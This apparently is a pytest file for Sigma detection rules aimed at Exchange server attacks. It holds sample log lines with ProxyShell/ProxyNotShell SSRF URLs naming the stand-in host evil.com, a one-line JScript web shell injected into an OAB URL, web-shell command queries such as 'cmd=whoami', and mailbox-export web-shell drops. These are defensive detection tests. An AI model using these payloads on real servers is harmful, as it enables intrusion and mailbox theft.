"""Every built-in Sigma rule fires on its attack and stays silent on the near miss."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

import pytest

from agent.detection import Severity
from agent.logrecord import LogRecord
from agent.sigma import SigmaRuleSet

BROWSER = (
    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/120.0"
)


def iis(
    stem: str,
    query: str = "-",
    *,
    method: str = "GET",
    status: int = 200,
    ua: str = BROWSER,
    user: str = "-",
    port: int = 443,
) -> LogRecord:
    fields = {
        "date": "2026-01-20",
        "time": "10:00:00",
        "s-ip": "10.0.0.5",
        "cs-method": method,
        "cs-uri-stem": stem,
        "cs-uri-query": query,
        "s-port": str(port),
        "cs-username": user,
        "c-ip": "203.0.113.7",
        "cs(User-Agent)": ua,
        "cs(Referer)": "-",
        "sc-status": str(status),
        "sc-substatus": "0",
        "sc-win32-status": "0",
        "time-taken": "15",
    }
    return LogRecord("iis", fields, "u_ex260120.log", 1, " ".join(fields.values()))


def proxy(
    stem: str,
    query: str = "",
    *,
    anchor: str = "",
    method: str = "GET",
    status: int = 200,
    ua: str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    user: str = "",
    protocol: str = "Ecp",
) -> LogRecord:
    fields = {
        "DateTime": "2026-01-20T10:00:00.000Z",
        "Protocol": protocol,
        "UrlStem": stem,
        "UrlQuery": query,
        "AuthenticatedUser": user,
        "AnchorMailbox": anchor,
        "UserAgent": ua,
        "ClientIpAddress": "203.0.113.7",
        "HttpStatus": str(status),
        "Method": method,
    }
    return LogRecord(
        "httpproxy", fields, "HttpProxy_2026012010-1.LOG", 1, ",".join(fields.values())
    )


def ecp(
    cmd: str, url: str = "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"
) -> LogRecord:
    # Later fields hold ECP's "<null>" marker, which must not pass for a script tag.
    event = f"S:TIME=13;S:CMD={cmd};S:REQID=;S:URL={url};S:EX=;S:TNAME=<null>;S:TID="
    fields = {
        "TimeStamp": "2026-01-20T10:00:00.000Z",
        "ServerName": "EXCH01",
        "EventId": "ECP.Request",
        "EventData": event,
        "S:CMD": cmd,
        "S:URL": url,
    }
    return LogRecord("ecp", fields, "ECPServer20260120-1.LOG", 1, ",".join(fields.values()))


def oab(message: str) -> LogRecord:
    return LogRecord("oab", {"message": message, "path": ""}, "OABGenerator.log", 1, message)


def rps(client_info: str, status: int = 200) -> LogRecord:
    fields = {
        "DateTime": "2026-01-20T10:00:00.000Z",
        "ClientIpAddress": "203.0.113.7",
        "FrontEndServer": "EXCH01",
        "HttpStatus": str(status),
        "ClientInfo": client_info,
    }
    return LogRecord("rps_http", fields, "Rps_Http_2026012010-1.LOG", 1, ",".join(fields.values()))


def cmdlet(name: str, params: str) -> LogRecord:
    fields = {"DateTime": "2026-01-20T10:00:00.000Z", "Cmdlet": name, "Parameters": params}
    return LogRecord("cmdlet", fields, "Rps_Cmdlet_2026012010-1.LOG", 1, ",".join(fields.values()))


@dataclass
class Case:
    rule_id: str
    level: Severity
    positives: list[LogRecord]
    negatives: list[LogRecord]
    cve: str | None = None
    extra: list[Callable[[SigmaRuleSet], bool]] = field(default_factory=list)


SSRF_ANCHOR = "ServerInfo~a]@EXCH01.corp.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#"  # noqa: E501 (verbatim log text)
PROXYSHELL = (
    "/autodiscover/autodiscover.json",
    "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCE&Email=autodiscover/autodiscover.json%3F@evil.com",
)
PROXYSHELL_MAPI = (
    "/autodiscover/autodiscover.json",
    "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com",
)
PROXYNOTSHELL = (
    "/autodiscover/autodiscover.json",
    "@evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com&Protocol=XYZ&FooProtocol=Powershell",
)
# The same request as the back-end site logs it, the address in the path (no '?').
PROXYSHELL_MAPI_IN_PATH = (
    "/autodiscover/autodiscover.json@evil.com/mapi/nspi/",
    "&Email=autodiscover/autodiscover.json%3F@evil.com",
)
PROXYSHELL_EWS = (
    "/autodiscover/autodiscover.json",
    "@evil.com/EWS/exchange.asmx?&Email=autodiscover/autodiscover.json%3F@evil.com",
)
BENIGN_AUTODISCOVER = (
    "/autodiscover/autodiscover.json/v1.0/john%40contoso.com",
    "Protocol=EWS&RedirectCount=1",
)
LEGIT_OWA_VDIR = (
    "Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.com/owa'."
    "Identity='EXCH01\\owa (Default Web Site)'"
)
EVIL_OAB_VDIR = (
    'Set-OabVirtualDirectory.ExternalUrl=\'http://f/<script language="JScript" runat="server">'
    'function Page_Load(){eval(Request["k"],"unsafe");}</script>\'.Identity=\'EXCH01\\OAB\''
)

CASES = [
    Case(
        "878f76bb-6f34-4ed0-a64c-7e431185eb1a",
        Severity.HIGH,
        [proxy("/ecp/y.js", anchor=SSRF_ANCHOR, method="POST", status=200)],
        [
            proxy("/ecp/y.js", anchor="ServerInfo~localhost/owa/auth/logon.aspx?~3", method="POST"),
            proxy(
                "/autodiscover/autodiscover.xml",
                anchor="ServerInfo~a]@servername.domain.local:444/autodiscover/autodiscover.xml?#",
            ),
            proxy("/ecp/y.js", anchor=SSRF_ANCHOR, method="POST", status=500),
            proxy("/owa/", anchor="Smtp~john@contoso.com"),
        ],
        cve="cve.2021-26855",
    ),
    Case(
        "7b7f32c0-e674-44e6-a4dd-bccff7bfa27a",
        Severity.MEDIUM,
        [proxy("/ecp/y.js", anchor=SSRF_ANCHOR, method="POST", status=500)],
        [
            proxy("/ecp/y.js", anchor=SSRF_ANCHOR, method="POST", status=200),
            proxy(
                "/owa/auth/x.js", anchor="ServerInfo~localhost/owa/auth/logon.aspx?~3", status=404
            ),
        ],
        cve="cve.2021-26855",
    ),
    Case(
        "addc85fe-f0e6-4470-8ef7-a2f96ddb764c",
        Severity.CRITICAL,
        [
            oab(
                "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' "  # noqa: E501 (verbatim log text)
                "needs to be removed."
            ),
            oab(
                "Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"  # noqa: E501 (verbatim log text)
                "ClientAccess\\OAB\\..\\..\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx' needs to be removed."  # noqa: E501 (verbatim log text)
            ),
        ],
        [
            oab(
                "Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"  # noqa: E501 (verbatim log text)
                "ClientAccess\\OAB\\Temp\\oab.tmp' needs to be removed."
            ),
            oab("OAB generation completed for 'Default Offline Address Book'."),
        ],
        cve="cve.2021-26858",
    ),
    Case(
        "b81717a0-289f-4864-bf3a-7009d631b9d8",
        Severity.CRITICAL,
        [
            iis(
                "/mapi/nspi/",
                "&Email=autodiscover/autodiscover.json%3F@evil.example",
                method="POST",
                user="NT AUTHORITY\\SYSTEM",
                port=444,
            ),
            iis(
                "/Powershell/",
                "X-Rps-CAT=VgEA&Email=Autodiscover/Autodiscover.json%3f@x.example",
                method="POST",
                port=444,
            ),
        ],
        [
            # the same on the front end is the other ProxyShell rules' business
            iis("/mapi/nspi/", "&Email=autodiscover/autodiscover.json%3F@evil.example", port=443),
            iis(
                "/mapi/nspi/",
                "&Email=autodiscover/autodiscover.json%3F@evil.example",
                status=401,
                port=444,
            ),
            # Outlook's own autodiscover call proxied to the back end
            iis(
                "/autodiscover/autodiscover.json", "Email=jdoe%40contoso.com&Protocol=EWS", port=444
            ),
        ],
        cve="cve.2021-34473",
    ),
    Case(
        "74c38568-4d31-4521-bab2-760d2f28847e",
        Severity.HIGH,
        [
            iis(
                "/ecp/default.aspx",
                "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP",
                status=500,
                user="contoso\\jdoe",
            ),
            iis("/ECP/Default.aspx", "__viewstate=%2FwEy&__VIEWSTATEGENERATOR=B97B4E27"),
            proxy(
                "/ecp/default.aspx", "?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEy", status=500
            ),
        ],
        [
            iis("/ecp/default.aspx", "__VIEWSTATEGENERATOR=B97B4E27"),
            iis("/ecp/default.aspx", method="POST"),  # view state posted in the body
            # a scanner without an account, or a patched server: refused or sent to log on
            iis("/ecp/default.aspx", "__VIEWSTATEGENERATOR=B97B&__VIEWSTATE=%2FwEy", status=401),
            iis("/ecp/default.aspx", "__VIEWSTATE=%2FwEy", status=302),
            iis("/owa/auth/logon.aspx", "__VIEWSTATE=x"),
        ],
        cve="cve.2020-0688",
    ),
    Case(
        "c6325437-6c1d-4e3e-a91f-861b9b3f52e8",
        Severity.CRITICAL,
        [ecp(EVIL_OAB_VDIR)],
        [
            ecp(LEGIT_OWA_VDIR),
            ecp("Get-InboxRule", "/ecp/RulesEditor/InboxRules.svc/GetList"),
            ecp("Set-OabVirtualDirectory.InternalUrl=<null>.Identity='EXCH01\\OAB'"),
        ],
        cve="cve.2021-27065",
    ),
    Case(
        "6ccf53ad-fa26-415b-b74e-d67294bd1b76",
        Severity.CRITICAL,
        [proxy("/ecp/y.js", anchor=SSRF_ANCHOR, method="POST", status=200)],
        [
            proxy("/ecp/y.js", anchor=SSRF_ANCHOR, method="POST", status=401),
            proxy("/ecp/y.js", anchor="ServerInfo~a]@EXCH01:444/ecp/about.aspx?#", method="POST"),
        ],
        cve="cve.2021-27065",
    ),
    Case(
        "1e7ab6e6-9e22-4026-8b61-b5d22574e7d6",
        Severity.CRITICAL,
        [
            iis(*PROXYSHELL, method="POST", status=200),
            # the forged X-Rps-CAT token is ProxyShell whoever IIS names as the user
            iis(*PROXYSHELL, method="POST", status=200, user="CONTOSO\\j.doe"),
            iis(*PROXYSHELL_MAPI, status=302),
            proxy(PROXYSHELL[0], "?" + PROXYSHELL[1], method="POST", status=200),
        ],
        [
            iis(*PROXYSHELL, method="POST", status=401),
            iis(*BENIGN_AUTODISCOVER, status=200),
            iis(*PROXYSHELL_MAPI, status=200, user="CONTOSO\\j.doe"),  # no forged token
        ],
        cve="cve.2021-34473",
    ),
    Case(
        "2790f224-4ac4-40df-9b79-947c99da6866",
        Severity.HIGH,
        [
            iis(*PROXYSHELL_MAPI, status=200, user="CONTOSO\\j.doe"),
            iis(*PROXYSHELL_MAPI_IN_PATH, status=200, user="NT AUTHORITY\\SYSTEM"),
            iis(*PROXYSHELL_EWS, method="POST", status=200, user="j.doe@contoso.com"),
            proxy(
                PROXYSHELL_MAPI[0],
                "?" + PROXYSHELL_MAPI[1],
                status=200,
                user="CONTOSO\\j.doe",
                protocol="Autodiscover",
            ),
        ],
        [
            iis(*PROXYSHELL_MAPI, status=401, user="CONTOSO\\j.doe"),  # the attempt rule's
            iis(*PROXYSHELL_MAPI, status=200),  # anonymous: ProxyShell success's
            iis(*PROXYSHELL, method="POST", status=200, user="CONTOSO\\j.doe"),  # forged token
            iis(*BENIGN_AUTODISCOVER, status=200, user="CONTOSO\\j.doe"),
            proxy(
                PROXYSHELL_MAPI[0], "?" + PROXYSHELL_MAPI[1], status=200, protocol="Autodiscover"
            ),
        ],
        cve="cve.2021-34473",
    ),
    Case(
        "d838c595-b17a-4333-8233-0f6589a2aca5",
        Severity.MEDIUM,
        [iis(*PROXYSHELL, method="POST", status=401)],
        [iis(*PROXYSHELL, method="POST", status=200), iis(*BENIGN_AUTODISCOVER, status=401)],
        cve="cve.2021-34473",
    ),
    Case(
        "bf4f4ca4-38ae-4ea5-aac6-0d8a8970f22a",
        Severity.CRITICAL,
        [iis(*PROXYNOTSHELL, method="POST", status=200, user="CONTOSO\\j.doe")],
        [
            iis(*PROXYNOTSHELL, method="POST", status=401, user="CONTOSO\\j.doe"),
            iis(*BENIGN_AUTODISCOVER, status=200),
            iis(*PROXYNOTSHELL, method="POST", status=200),  # anonymous: that is ProxyShell
        ],
        cve="cve.2022-41040",
    ),
    Case(
        "43f93ff8-f52e-466e-b46c-fd52716e8276",
        Severity.MEDIUM,
        [iis(*PROXYNOTSHELL, method="POST", status=404)],
        [iis(*PROXYNOTSHELL, method="POST", status=200), iis(*BENIGN_AUTODISCOVER, status=404)],
        cve="cve.2022-41040",
    ),
    Case(
        "362d4bd4-dc5b-4a79-9484-d36e48be6d28",
        Severity.CRITICAL,
        [
            iis("/owa/mastermailbox@outlook.com/powershell", method="POST", status=200),
            iis("/owa/john%40contoso.com/powershell", method="POST", status=200),
            iis("/owa/john%2540contoso.com/PowerShell", method="POST", status=200),
        ],
        [
            iis(
                "/owa/john@contoso.com/powershell",
                method="POST",
                status=200,
                ua="Microsoft+WinRM+Client",
            ),
            iis("/owa/john@contoso.com/powershell", method="POST", status=401),
            iis("/owa/service.svc", "action=GetFolder&UA=0", method="POST", status=200),
            iis(
                "/powershell",
                "serializationLevel=Full;ExchClientVer=15.2",
                method="POST",
                status=200,
                ua="Microsoft+WinRM+Client",
            ),
        ],
        cve="cve.2022-41080",
    ),
    Case(
        "0b96674a-fe41-46db-9d26-8f6155703082",
        Severity.MEDIUM,
        [iis("/owa/john@contoso.com/powershell", method="POST", status=401)],
        [
            iis("/owa/john@contoso.com/powershell", method="POST", status=200),
            iis(
                "/owa/john@contoso.com/powershell",
                method="POST",
                status=401,
                ua="Exchange+BackEnd+Probes",
            ),
        ],
        cve="cve.2022-41080",
    ),
    Case(
        "8c4a6c1b-9f72-483d-9b27-9fd5db3aa238",
        Severity.CRITICAL,
        [rps("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", 200)],
        [
            rps("Microsoft WinRM Client", 200),
            rps("Exchange BackEnd Probes", 200),
            rps("", 200),
            rps("Mozilla/5.0 (Windows NT 10.0)", 500),
        ],
        cve="cve.2022-41080",
    ),
    Case(
        "0486ea86-f324-4f42-9202-109e68c0e7f6",
        Severity.MEDIUM,
        [rps("python-requests/2.28.1", 500)],
        [rps("Microsoft WinRM Client", 500), rps("python-requests/2.28.1", 200)],
        cve="cve.2022-41080",
    ),
    Case(
        "83ee24da-25cb-4603-b4c0-391f7bd1f74a",
        Severity.HIGH,
        [
            iis("/ecp/y.js", method="POST", status=200),
            iis("/ecp/default.flt", method="POST", status=200),
            iis("/owa/auth/x.js", method="POST", status=200),
            iis(
                "/owa/auth/Current/themes/resources/logon.css",
                method="POST",
                status=200,
                ua="Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html)",
            ),
        ],
        [
            iis("/ecp/y.js", method="POST", status=404),
            iis("/ecp/y.js", method="GET", status=200),
            iis("/ecp/scripts/jquery.js", method="POST", status=200),
            iis("/owa/auth/Current/themes/resources/logon.css", method="POST", status=200),
        ],
        cve="cve.2021-26855",
    ),
    Case(
        "eb13460b-ffe0-42c4-b70c-6162f1e7de4c",
        Severity.MEDIUM,
        [
            iis("/ecp/y.js", method="POST", status=404),
            iis("/ecp/main.css", method="POST", status=500),
        ],
        [
            iis("/ecp/y.js", method="POST", status=200),
            iis("/ecp/main.css", method="GET", status=404),
        ],
        cve="cve.2021-26855",
    ),
    Case(
        "816c14d7-7c3d-4e6a-a1eb-df0b7f083a4b",
        Severity.CRITICAL,
        [
            iis("/aspnet_client/system_web/log.aspx", method="POST", status=200),
            iis("/owa/auth/errorPage.aspx", method="POST", status=200),
            iis("/owa/auth/Current/one1.aspx", method="POST", status=200),
            iis("/ecp/auth/shell.ashx", method="POST", status=200),
            iis("/OAB/log.aspx", method="POST", status=200),
            iis("/owa/auth/%65rrorPage.aspx", method="POST", status=200),
        ],
        [
            iis("/owa/auth/logon.aspx", method="POST", status=200),
            iis("/owa/auth/errorFE.aspx", method="POST", status=200),
            iis("/ecp/auth/TimeoutLogout.aspx", method="POST", status=200),
            iis("/aspnet_client/system_web/log.aspx", method="POST", status=404),
            iis("/aspnet_client/system_web/log.aspx", method="GET", status=200),
            iis("/owa/auth.owa", method="POST", status=302),
        ],
    ),
    Case(
        "662fce11-f90e-4207-bcf8-69e736c5aa17",
        Severity.HIGH,
        [iis("/aspnet_client/discover.aspx", status=200)],
        [
            iis("/aspnet_client/discover.aspx", method="POST", status=200),
            iis("/owa/auth/15.2.1118/themes/resources/favicon.ico", status=200),
            iis(
                "/owa/auth/logon.aspx",
                "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0",
                status=200,
            ),
        ],
    ),
    Case(
        "b9fd81a9-6652-49cd-b3a2-dcf3c92d0fd5",
        Severity.MEDIUM,
        [
            iis("/aspnet_client/shell.aspx", status=404),
            iis("/owa/auth/shel90.aspx", method="POST", status=404),
        ],
        [iis("/aspnet_client/shell.aspx", status=200), iis("/owa/auth/logon.aspx", status=404)],
    ),
    Case(
        "144a6c54-29b7-4c66-b3e8-918a1a4dec57",
        Severity.CRITICAL,
        [
            iis("/owa/auth/aKdMadOeT.aspx", "cmd=whoami", status=200),
            iis("/aspnet_client/x.aspx", "c=cmd%20/c%20ipconfig", method="POST", status=200),
            iis("/owa/auth/y.aspx", "exec_code=ZWNobyBoaQ%3D%3D", method="POST", status=200),
        ],
        [
            iis(
                "/Microsoft-Server-ActiveSync/default.eas",
                "Cmd=Sync&User=john&DeviceId=ABC123&DeviceType=iPhone",
                method="POST",
                status=200,
            ),
            iis("/owa/auth/aKdMadOeT.aspx", "cmd=whoami", status=404),
            iis("/owa/service.svc", "action=FindItem&q=whoami", method="POST", status=200),
        ],
    ),
    Case(
        "206e022a-5e60-4a47-b539-08aaea5cfc54",
        Severity.MEDIUM,
        [iis("/owa/auth/aKdMadOeT.aspx", "cmd=whoami", status=404)],
        [
            iis("/owa/auth/aKdMadOeT.aspx", "cmd=whoami", status=200),
            iis(
                "/Microsoft-Server-ActiveSync/default.eas",
                "Cmd=Ping&User=john",
                method="POST",
                status=401,
            ),
        ],
    ),
    Case(
        "f50cca0b-70d0-444b-8279-37a45577a089",
        Severity.CRITICAL,
        [
            cmdlet(
                "New-MailboxExportRequest",
                '-Mailbox "admin" -FilePath "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"',  # noqa: E501 (verbatim log text)
            ),
            cmdlet(
                "New-MailboxExportRequest",
                '-Mailbox:"admin" -FilePath:"\\\\EXCH01\\c$\\Program Files\\Microsoft\\Exchange Server'  # noqa: E501 (verbatim log text)
                '\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\a.pst"',
            ),
        ],
        [
            cmdlet(
                "New-MailboxExportRequest",
                '-Mailbox "leaver" -FilePath "\\\\fs01\\pst$\\leaver.pst"',
            ),
            cmdlet("Get-MailboxExportRequest", "-Status Completed"),
        ],
    ),
    Case(
        "103e54d0-334f-4415-a3a3-d7d705e88356",
        Severity.LOW,
        [
            cmdlet(
                "New-MailboxExportRequest",
                '-Mailbox "leaver" -FilePath "\\\\fs01\\pst$\\leaver.pst"',
            )
        ],
        [
            cmdlet(
                "New-MailboxExportRequest",
                '-Mailbox "admin" -FilePath "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"',  # noqa: E501 (verbatim log text)
            )
        ],
    ),
    Case(
        "c11c1f9b-d96c-4987-9f49-4e7c21b7e292",
        Severity.MEDIUM,
        [cmdlet("New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -User "svc-mig"')],
        [cmdlet("New-ManagementRoleAssignment", '-Role "Mail Recipients" -User "helpdesk"')],
    ),
    Case(
        "6723081f-698e-42df-8336-a1ceae85f191",
        Severity.CRITICAL,
        [
            cmdlet(
                "New-ExchangeCertificate",
                '-GenerateRequest -BinaryEncoded -SubjectName "CN=x" '
                '-RequestFile "\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\cert.aspx"',
            )
        ],
        [
            cmdlet(
                "New-ExchangeCertificate",
                '-GenerateRequest -SubjectName "CN=mail.contoso.com" -RequestFile "C:\\certreq\\mail.req"',  # noqa: E501 (verbatim log text)
            ),
            cmdlet(
                "New-ExchangeCertificate",
                '-GenerateRequest -BinaryEncoded -RequestFile "\\\\localhost\\c$\\certs\\mail.der"',
            ),
        ],
    ),
    Case(
        "6f9887ab-3530-4947-b4c0-41d586183c00",
        Severity.MEDIUM,
        [
            cmdlet(
                "Set-Mailbox",
                '-Identity "ceo@contoso.com" -ForwardingSmtpAddress "smtp:drop@mail.example" '
                '-DeliverToMailboxAndForward "True"',
            ),
            cmdlet(
                "New-TransportRule",
                '-Name "Journal" -SentTo "cfo@contoso.com" -BlindCopyTo "x@example.org"',
            ),
            cmdlet(
                "New-InboxRule",
                '-Mailbox "jdoe" -Name "." -ForwardTo "x@example.org" -MarkAsRead "True"',
            ),
            cmdlet("Set-InboxRule", '-Identity "jdoe\\r" -RedirectTo "x@example.org"'),
        ],
        [
            cmdlet("Set-Mailbox", '-Identity "sofia@contoso.com" -ProhibitSendQuota "9.5GB"'),
            cmdlet("Set-Mailbox", '-Identity "leaver@contoso.com" -ForwardingSmtpAddress $null'),
            cmdlet(
                "Add-MailboxPermission",
                '-Identity "shared.finance@contoso.com" -User "mlewis" -AccessRights "FullAccess"',
            ),
            cmdlet("New-TransportRule", '-Name "Disclaimer" -ApplyHtmlDisclaimerText "<p>x</p>"'),
            cmdlet("Get-InboxRule", '-Mailbox "jdoe"'),
        ],
    ),
    Case(
        "b0d5304f-dabd-4240-8a5f-d4044a46f9ce",
        Severity.LOW,
        [
            cmdlet(
                "Remove-MailboxExportRequest", '-Identity "admin\\MailboxExport" -Confirm "False"'
            ),
            cmdlet("Remove-MailboxExportRequest", "-Identity admin\\MailboxExport -Confirm:$false"),
        ],
        [
            cmdlet("Remove-MailboxExportRequest", '-Identity "admin\\MailboxExport"'),
            cmdlet("Get-MailboxExportRequest", "-Confirm:$false"),
        ],
    ),
    Case(
        "4edca060-fb70-4b59-ab5b-314d9e66e07d",
        Severity.CRITICAL,
        [
            cmdlet(
                "Set-OabVirtualDirectory",
                '-Identity "EXCH01\\OAB (Default Web Site)" -ExternalUrl "http://f/<script language='  # noqa: E501 (verbatim log text)
                "'JScript' runat='server'>function Page_Load(){eval(Request['k'],'unsafe');}</script>\"",  # noqa: E501 (verbatim log text)
            )
        ],
        [
            cmdlet(
                "Set-OwaVirtualDirectory",
                '-Identity "EXCH01\\owa (Default Web Site)" -ExternalUrl "https://mail.contoso.com/owa"',
            )
        ],
    ),
]


@pytest.fixture(scope="module")
def ruleset() -> SigmaRuleSet:
    return SigmaRuleSet.load([], builtin=True)


def _ids(ruleset: SigmaRuleSet, record: LogRecord) -> set[str]:
    return {d.rule_id for d in ruleset.match(record)}


def test_every_builtin_rule_is_tested_and_loads_cleanly(ruleset: SigmaRuleSet) -> None:
    assert ruleset.problems == ()
    # Host-signal rules (proc_*, win_app_*, win_msexchange_*) are tested in
    # test_rules_sigma_host.py; account-abuse rules (account_*) in test_account_abuse.py.
    host = ("proc_", "win_app_", "win_msexchange_", "account_")
    loaded = {r.detection.rule_id for r in ruleset.rules if not r.file.name.startswith(host)}
    assert loaded == {c.rule_id for c in CASES}
    for case in CASES:
        assert case.positives and case.negatives, case.rule_id


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.rule_id[:8])
def test_builtin_rule(ruleset: SigmaRuleSet, case: Case) -> None:
    rule = next(r for r in ruleset.rules if r.detection.rule_id == case.rule_id)
    assert rule.detection.severity is case.level
    assert any(t.startswith("attack.") for t in rule.detection.tags)
    if case.cve:
        assert case.cve in rule.detection.tags
    for record in case.positives:
        found = [d for d in ruleset.match(record) if d.rule_id == case.rule_id]
        assert found, f"{rule.detection.title} missed {record.raw}"
        assert found[0].severity is case.level
        assert found[0].title == rule.detection.title
        # The prefilter must keep every line the rule matches (hunt relies on it).
        literals = ruleset.literals(record.source)
        if literals is not None:
            from agent.sigma import normalize_folded

            line = normalize_folded(record.raw)
            assert any(lit in line for lit in literals), f"prefilter drops {record.raw}"
    for record in case.negatives:
        assert case.rule_id not in _ids(ruleset, record), (
            f"{rule.detection.title} fired on {record.raw}"
        )


@pytest.mark.parametrize("shape", [PROXYSHELL_MAPI, PROXYSHELL_MAPI_IN_PATH, PROXYSHELL_EWS])
@pytest.mark.parametrize("user", ["-", "CONTOSO\\j.doe"])
def test_proxyshell_back_end_request_is_high_when_answered_and_medium_at_most_when_refused(
    ruleset: SigmaRuleSet, shape: tuple[str, str], user: str
) -> None:
    for status in (401, 404, 500):
        found = ruleset.match(iis(*shape, status=status, user=user))
        assert found and max(d.severity for d in found) is Severity.MEDIUM
    answered = ruleset.match(iis(*shape, status=200, user=user))
    assert max(d.severity for d in answered) >= Severity.HIGH


def test_management_event_channel_uses_the_same_cmdlet_rules(ruleset: SigmaRuleSet) -> None:
    text = (
        'Cmdlet succeeded. Cmdlet New-MailboxExportRequest, parameters -Mailbox "admin" '
        '-FilePath "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"'
    )
    found = ruleset.match_event("msexchange-management", {"EventID": "1", "Data": text})
    assert "f50cca0b-70d0-444b-8279-37a45577a089" in {d.rule_id for d in found}


def test_benign_exchange_traffic_is_silent(ruleset: SigmaRuleSet) -> None:
    benign = [
        iis("/owa/", status=200),
        iis("/owa/auth/logon.aspx", "replaceCurrent=1&url=https%3a%2f%2fmail", status=200),
        iis("/owa/auth.owa", "&CorrelationID=<empty>;", method="POST", status=302),
        iis(
            "/EWS/Exchange.asmx",
            method="POST",
            status=200,
            ua="ExchangeServicesClient/15.02.1118.040",
        ),
        iis(
            "/mapi/emsmdb/",
            "MailboxId=1c0a@contoso.com&CorrelationID=<empty>;",
            method="POST",
            status=200,
        ),
        iis(
            "/Microsoft-Server-ActiveSync/default.eas",
            "Cmd=Sync&User=john%40contoso.com&DeviceId=X",
            method="POST",
            status=200,
        ),
        iis("/autodiscover/autodiscover.xml", method="POST", status=200),
        iis("/ecp/", status=200),
        iis("/ecp/PersonalSettings/HomePage.aspx", "showhelp=false", status=200),
        iis("/OAB/3f9c6f57-2e5e-4a5e-9a3d-6c1b3a8d8f10/oab.xml", status=200),
        iis(
            "/powershell",
            "serializationLevel=Full;ExchClientVer=15.2.1118.40;clientApplication=ManagementShell",
            method="POST",
            status=200,
            ua="Microsoft+WinRM+Client",
        ),
        proxy(
            "/owa/service.svc",
            "?action=GetAccessTokenforResource",
            anchor="Smtp~john@contoso.com",
            method="POST",
            protocol="Owa",
        ),
        proxy(
            "/autodiscover/autodiscover.xml",
            anchor="Sid~S-1-5-21-1-2-3-1001",
            method="POST",
            protocol="Autodiscover",
        ),
    ]
    for record in benign:
        assert ruleset.match(record) == [], record.raw
